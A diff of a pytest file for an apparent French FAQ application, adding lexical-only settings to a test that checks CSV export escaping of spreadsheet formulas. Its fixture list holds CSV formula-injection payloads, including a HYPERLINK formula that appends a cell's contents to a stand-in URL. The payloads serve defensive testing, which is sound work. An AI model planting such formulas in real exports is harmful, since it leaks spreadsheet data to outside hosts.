@@ -4,16 +4,23 @@ from __future__ import annotations
 
 import csv
 import io
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
 from faqsante import editing
+from faqsante.config import Settings
 from faqsante.ingest import ingest_paths
 from faqsante.store import Database
 from faqsante.store.export import escape_formula, render_export, unescape_formula
 
 FORMULAS = ['=HYPERLINK("https://exemple.fr/?d="&A1;"clic")', "+33 1 23", "-1", "@SUM(A1)", "\tx", "\rx"]
+
+
+def lexical(db: Database) -> Settings:
+    """Editing tags and indexes the entry it saves: without a model, from the taxonomy's words alone."""
+    return replace(Settings(), db_url=db.url, embedder="none")
 
 
 @pytest.mark.parametrize("cell", FORMULAS)
@@ -31,7 +38,12 @@ def test_escaping_reads_back_exactly(cell: str) -> None:
 def test_the_csv_export_escapes_formulas_and_reimports_them_unchanged(sqlite_url: str, tmp_path: Path) -> None:
     db = Database(sqlite_url)
     entry_id = editing.create_entry(
-        db, question="=1+1", answer='=HYPERLINK("https://exemple.fr";"Cliquez")', section="@rubrique", author="marie"
+        db,
+        question="=1+1",
+        answer='=HYPERLINK("https://exemple.fr";"Cliquez")',
+        section="@rubrique",
+        author="marie",
+        settings=lexical(db),
     )
     exported = render_export(db, "csv")
     row = next(csv.DictReader(io.StringIO(exported)))
